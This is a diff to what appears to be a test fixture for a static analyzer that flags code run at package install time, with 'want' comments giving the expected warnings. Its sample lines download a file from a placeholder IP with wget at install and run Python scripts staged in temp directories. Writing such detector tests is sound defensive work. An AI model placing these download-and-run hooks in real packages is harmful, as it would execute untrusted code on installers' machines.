@@ -32,3 +32,11 @@ if sys.argv[-1] == "publish":
 
 if "install" in sys.argv:
     os.system("wget -q http://203.0.113.7/x -O /tmp/x")  # want "os.system runs wget at install time"
+
+import tempfile
+import requests
+stage = os.path.join(tempfile.gettempdir(), "x.py")
+subprocess.Popen([sys.executable, stage])  # want "subprocess.Popen runs python at install time"
+subprocess.check_call([sys.executable, "/tmp/.cache/u.py"])  # want "subprocess.check_call runs python"
+subprocess.check_call([sys.executable, "tools/generate_headers.py"])
+subprocess.check_call(["npm", "run", "build"])
